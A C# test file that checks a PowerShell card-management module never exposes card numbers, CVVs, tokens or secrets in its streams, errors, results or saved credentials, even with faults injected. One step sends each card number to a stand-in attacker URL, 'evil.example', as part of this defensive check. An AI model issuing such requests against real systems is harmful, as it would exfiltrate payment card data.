using System.Management.Automation;
using VgsCalm.Emulator.Calm;
using VgsCalm.Emulator.Faults;

namespace VgsCalm.Tests.Cards;

/// <summary>
/// The whole flow, with all that can be said switched on and with everything going wrong: none of it shows what is
/// secret.
/// </summary>
public sealed class NothingSecretShownTests : ConnectedTest
{
    private static readonly string[] Numbers =
    [
        "5415775831611962",
        "5547991340803813",
        "4111111111111111",
        "378282246310005",
        "9415775831611962",
    ];

    [Fact]
    public void No_card_number_secret_or_token_is_in_any_stream_error_or_result()
    {
        Shell.Set("numbers", Numbers);
        Shell.Set("file", Folder.At("credentials.yaml"));
        var results = new List<ShellResult>();
        void Step(string script) =>
            results.Add(Run("$VerbosePreference = 'Continue'; $DebugPreference = 'Continue'; " + script));

        Step("$sa = New-VgsServiceAccountConfig tntabc123 | New-VgsServiceAccount ACemulator -Session admin; $sa");
        Step("$sa | Export-VgsServiceAccountConfig $file -PassThru; Import-VgsServiceAccountConfig $file");
        Step(
            "Connect-VgsCalm -Credential $sa.Credential @uris -PassThru; Get-VgsAccessToken; Get-VgsAccessToken -ForceRefresh"
        );
        Step(
            "$rows = $numbers | ForEach-Object { [pscustomobject]@{ Name = 'A'; CardNumber = $_; ExpirationMonth = 1; "
                + "ExpirationYear = 30 } }"
        );
        Step("$rows | New-VgsCard | Get-VgsCard -Wait");
        Step("$rows | New-VgsCard -WhatIf");
        Step("$rows | Get-VgsCard");
        Step("$numbers | Get-VgsCard");
        Step("$rows | ForEach-Object { $_.ExpirationMonth = 13; $_ } | New-VgsCard");
        Step("foreach ($n in $numbers) { Invoke-VgsCalmRequest -Path \"/network-tokens/$n\" }");
        Step(
            "foreach ($n in $numbers) { Invoke-VgsCalmRequest -Path /x -Query @{ number = $n } -Headers @{ 'X-Number' = $n } }"
        );
        Step("foreach ($n in $numbers) { Invoke-VgsCalmRequest -Path \"https://evil.example/$n\" }");
        Step(
            "$null = foreach ($n in $numbers) { Invoke-VgsCalmRequest -Path /card-check -Method Post -Body @{ name = "
                + "'A'; number = $n; exp_month = 1; exp_year = 30; cvv = '987' } }"
        );

        Emulator.Faults.Add(
            new Fault
            {
                Kind = FaultKind.Status,
                PathPrefix = "/calm/cards",
                Status = 422,
                Body =
                    $$"""{"errors":[{"code":"invalid-format","detail":"number {{Numbers[0]}} is not valid"}],"message":"{{Numbers[1]}}"}""",
            }
        );
        Step("$rows[0] | ForEach-Object { $_.ExpirationMonth = 1; $_ } | New-VgsCard");
        Always(FaultKind.ResetAfter, "/calm/cards", method: "POST");
        Step("$rows | ForEach-Object { $_.ExpirationMonth = 1; $_ } | New-VgsCard");
        Emulator.Faults.Clear();
        Emulator.RevokeTokens();
        Step(
            "Get-VgsServiceAccount ACemulator -Session admin | Remove-VgsServiceAccount -Session admin -Force "
                + "-WhatIf; Remove-VgsServiceAccount ACemulator -ClientId $sa.ClientId -Session admin -Force"
        );
        Step(
            "Get-VgsCard CRDabc; Connect-VgsCalm -Credential $sa.Credential @uris; Get-VgsCalmSession; Disconnect-VgsCalm"
        );

        // It took place, and was talkative.
        Assert.True(Emulator.Cards.Count > Numbers.Length, "Cards were enrolled.");
        Assert.Contains(results, r => r.Output.Any(o => o.BaseObject.GetType().Name == "VgsCard"));
        Assert.True(
            results.Sum(r => r.Verbose.Count) > 30 && results.Sum(r => r.Debug.Count) > 30,
            "Verbose and debug were on."
        );
        Assert.True(results.Sum(r => r.Errors.Count) > 20, "Things went wrong.");

        var secrets = Numbers
            .Concat(Emulator.Cards.Select(c => c.CurrentNumber))
            .Concat(Emulator.IssuedTokens)
            .Concat(Emulator.IssuedSecrets)
            .Append("\"987\"")
            .Distinct(StringComparer.Ordinal)
            .ToArray();
        Assert.All(
            results.SelectMany(TextsOf),
            text => Assert.DoesNotContain(secrets, secret => text.Contains(secret, StringComparison.OrdinalIgnoreCase))
        );
        Assert.DoesNotContain(
            Emulator.IssuedSecrets,
            secret => Folder.Read("credentials.yaml").Contains(secret, StringComparison.Ordinal)
        );
    }

    private static IEnumerable<string> TextsOf(ShellResult result) =>
        result
            .Verbose.Concat(result.Debug)
            .Concat(result.Warnings)
            .Concat(result.Output.Select(o => o.ToString()))
            .Concat(result.Output.Select(o => PSSerializer.Serialize(o, 4)))
            .Concat(result.Errors.SelectMany(e => e.Texts()))
            .Concat(result.Terminating?.Texts() ?? []);
}
